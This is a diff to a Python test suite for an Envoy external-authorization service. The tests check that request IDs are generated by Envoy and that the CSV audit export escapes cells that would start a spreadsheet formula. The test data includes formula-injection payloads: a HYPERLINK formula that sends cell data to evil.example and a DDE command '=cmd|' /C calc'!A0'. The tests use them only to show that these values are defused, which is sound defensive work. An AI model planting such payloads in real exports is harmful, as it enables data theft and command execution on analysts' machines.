@@ -9,10 +9,13 @@ import subprocess
 import sys
 import time
 from pathlib import Path
+from uuid import UUID
 
+import pytest
 import yaml
 
 from extauthz.audit import FIELDS
+from extauthz.audit_cli import csv_cell
 from tests.support.issuer import AUDIENCE, LocalIssuer
 from tests.support.redis import RedisServer
 from tests.support.stack import ExtAuthz, Gateway
@@ -54,8 +57,8 @@ def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
             ("/x", {"authorization": "Bearer not.a.token"}, 401),
             ("/x", {}, 401),
         ]
-        for i, (path, headers, want) in enumerate(requests):
-            assert gateway.get(path, {**headers, "x-request-id": f"rid-{i}"}).status == want
+        for path, headers, want in requests:
+            assert gateway.get(path, headers).status == want
         time.sleep(0.5)
 
         assert service.process is not None
@@ -64,7 +67,8 @@ def test_every_decision_is_one_line_with_no_secret_and_readable_across_replicas(
         assert len(lines) == len(requests)
         for line in lines:
             assert tuple(line) == FIELDS
-        first = next(ln for ln in lines if ln["request_id"] == "rid-0")
+        first = next(ln for ln in lines if ln["path"] == "/ok")
+        assert UUID(first["request_id"])  # made by Envoy
         assert first["decision"] == "allow"
         assert (first["subject"], first["issuer"], first["client_id"]) == ("alice", idp.issuer, "cli")
         assert (first["method"], first["path"], first["status"]) == ("GET", "/ok", 200)
@@ -134,3 +138,95 @@ def test_the_fast_line_format_is_json_dumps_byte_for_byte() -> None:
                 for _ in range(2):  # the second time from the kept parts
                     want = json.dumps(audit_record(decision, v, now), separators=(",", ":"))
                     assert fmt.line(decision, v, now) == want
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
+    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+2", "'\uff1d1+2"),
+    ("api.example.com", "api.example.com"), ("/a=b", "/a=b"), ("", ""), (None, None), (200, 200),
+    (-1, -1), (True, True),
+])
+def test_a_csv_cell_that_would_start_a_formula_is_quoted_as_text(value: object, cell: object) -> None:
+    assert csv_cell(value) == cell
+
+
+def test_a_client_cannot_put_a_formula_into_the_exported_audit_trail(tmp_path: Path) -> None:
+    """x-request-id, Host and a token's sub are chosen by clients and users: through the gateway
+    the id is Envoy's own, and in `audit export --format csv` no cell starts a formula."""
+    idp = LocalIssuer()
+    redis = RedisServer(tmp_path / "redis").start()
+    store = {"url": redis.url, "prefix": "csv:"}
+    service = ExtAuthz(tmp_path, {
+        "issuers": [{"issuer": idp.issuer, "audiences": [AUDIENCE]}], "store": store,
+        "audit": {"redis_stream": True, "flush_interval": 0.05},
+        "default_action": "authenticated"})
+    config = tmp_path / "cli.yaml"
+    config.write_text(yaml.safe_dump({"store": store}))
+    service.start()
+    gateway = Gateway(tmp_path, service).start()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open report")'
+    sub = "=cmd|' /C calc'!A0"
+    try:
+        token = idp.mint("ES256", sub=sub)
+        assert gateway.get("/ok", {"x-request-id": formula,
+                                   "authorization": f"Bearer {token}"}).status == 200
+        assert gateway.get("/host", {"x-request-id": formula, "host": "=1+2"}).status == 400
+        deadline = time.monotonic() + 5
+        rows: list[dict[str, str]] = []
+        while len(rows) < 2 and time.monotonic() < deadline:
+            export = cli(config, "export", "--since", "5m", "--format", "csv")
+            assert export.returncode == 0, export.stderr
+            rows = list(csv.DictReader(io.StringIO(export.stdout)))
+            time.sleep(0.05)
+        assert len(rows) == 2, rows
+        assert formula not in export.stdout  # the gateway replaced the client's id...
+        allowed = next(r for r in rows if r["decision"] == "allow")
+        assert UUID(allowed["request_id"])  # ...with its own
+        assert allowed["subject"] == "'" + sub  # text, not a formula
+        for row in rows:
+            for value in row.values():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    finally:
+        gateway.stop()
+        service.stop()
+        redis.stop()
+        idp.close()
+
+
+def test_the_export_escapes_every_client_chosen_cell_even_when_the_gateway_did_not(
+    tmp_path: Path
+) -> None:
+    """A stream written by a gateway that keeps clients' x-request-id (or by a mesh sidecar)."""
+    redis = RedisServer(tmp_path / "redis").start()
+    try:
+        record = {name: None for name in FIELDS}
+        record.update(time="2026-11-23T10:00:00.000Z", decision="deny", status=401,
+                      reason="token_missing", method="GET", host="-2+3", path="/@x",
+                      subject="@SUM(A1:A9)", request_id='=HYPERLINK("https://evil.example")',
+                      source="+1", username="\t=1")
+        redis.client().xadd("extauthz:audit", {"record": json.dumps(record)})
+        config = tmp_path / "cli.yaml"
+        config.write_text(yaml.safe_dump({"store": {"url": redis.url}}))
+        export = cli(config, "export", "--since", "0", "--format", "csv")
+        assert export.returncode == 0, export.stderr
+        (row,) = list(csv.DictReader(io.StringIO(export.stdout)))
+        assert (row["host"], row["subject"], row["request_id"], row["source"], row["username"]) == (
+            "'-2+3", "'@SUM(A1:A9)", '\'=HYPERLINK("https://evil.example")', "'+1", "'\t=1")
+        assert (row["path"], row["status"], row["decision"]) == ("/@x", "401", "deny")
+        assert json.loads(cli(config, "export", "--since", "0", "--format", "json").stdout) == record
+    finally:
+        redis.stop()
+
+
+@pytest.mark.parametrize("name", ["gateway.yaml", "kube-apiserver.yaml"])
+def test_the_envoy_examples_replace_a_clients_request_id(name: str) -> None:
+    doc = yaml.safe_load((Path(__file__).parents[1] / "envoy" / name).read_text())
+    for listener in doc["static_resources"]["listeners"]:
+        for chain in listener["filter_chains"]:
+            for f in chain["filters"]:
+                hcm = f["typed_config"]
+                # preserve_external_request_id only acts on edge requests, which needs both
+                assert hcm["use_remote_address"] is True
+                assert hcm["preserve_external_request_id"] is False
+                assert hcm["generate_request_id"] is True
